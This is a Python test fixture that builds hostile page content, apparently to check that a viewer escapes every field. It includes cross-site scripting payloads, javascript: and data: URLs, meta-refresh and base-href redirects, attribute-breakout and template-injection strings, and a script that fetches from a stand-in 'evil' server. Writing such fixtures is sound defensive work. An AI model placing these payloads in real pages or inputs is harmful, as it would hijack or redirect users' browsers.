"""Texts of a page that try to break out of every view."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True, slots=True)
class HostileTexts:
    """Texts that try to run a script, to load from the server at `evil`, or to lead there."""

    everything: str
    addresses: tuple[str, ...]
    content: dict[str, Any]


def hostile_texts(evil: str) -> HostileTexts:
    """The texts. `evil` is the address of a server, without a slash at its end."""
    script = f"document.documentElement.dataset.broken = 'yes'; parent.postMessage('broken', '*'); fetch('{evil}/')"
    payloads = (
        f"<script>{script}</script>",
        f'<img src=x onerror="{script}">',
        f"<svg onload=\"{script}\"><style>@import '{evil}/s.css'; body {{ display: none }}</style></svg>",
        f'<iframe src="{evil}/" srcdoc="<script>parent.document.body.remove()</script>"></iframe>',
        f'<form action="{evil}/"><input name="csrf"><button id="first">Send</button></form>',
        f'<meta http-equiv="refresh" content="0; url={evil}/">',
        f'<base href="{evil}/">',
        f'<link rel="stylesheet" href="{evil}/s.css"><link rel="prefetch" href="{evil}/p">',
        f'<object data="{evil}/o"></object><embed src="{evil}/e">',
        f"</pre></textarea></title></style></section></div></body></html><script>{script}</script>",
        f'" autofocus onfocus="{script}" x="',
        f"' onmouseover='{script}' x='",
        f"]]><!--><script>{script}</script>-->",
        "{{ 7 * 7 }}{% raw %}${7*7}<%= 7 %>",
        "\u202e\u2028\u2029<\u0000b>".replace("\u0000", ""),
    )
    addresses = (
        f"javascript:{script}",
        f"data:text/html,<script>{script}</script>",
        "vbscript:x",
        f'{evil}/"><script>1</script>',
        f"{evil}/' onclick='{script}",
    )
    everything = "\n".join(payloads)
    markdown = "\n\n".join(
        (
            *payloads,
            *(f"[a link]({address}) ![an image]({address}) <{address}>" for address in addresses),
            *(f'[a title]({evil}/ "{payload}")'.replace("\n", " ") for payload in payloads),
            *(f"![{payload}]({evil}/i.png)" for payload in payloads),
            *(f"```{payload}\n{payload}\n```" for payload in payloads),
            f"[reference]: javascript:{script}\n\n[reference]",
            "| a | b |\n|---|---|\n" + "".join(f"| {payload.replace('|', '')} | x |\n" for payload in payloads),
        )
    )
    start = markdown.index("<img")

    content: dict[str, Any] = {
        "html": f"<!doctype html><html><head><title>{everything}</title></head><body>{everything}</body></html>",
        "cleanedHtml": f'<p>{everything}</p><a href="javascript:{script}" id=first>first</a>',
        "markdown": markdown,
        "json": {
            "status": "success",
            "source": everything,
            "data": {everything: [everything, {"address": addresses[0]}]},
            "error": everything,
            "warning": everything,
            "evidence": {f"/{everything}": {"quote": everything, "start": start, "end": start + 30}},
            "unsupported": [{"pointer": everything, "value": everything}],
            "missing": [everything],
        },
        "links": [{"href": address, "text": everything} for address in (*addresses, *payloads)],
        "images": [{"src": address, "alt": everything} for address in (*addresses, *payloads)],
        "summary": everything,
        "metadata": {"title": everything, "description": everything, "open_graph": {everything: everything}},
    }
    return HostileTexts(everything, addresses, content)
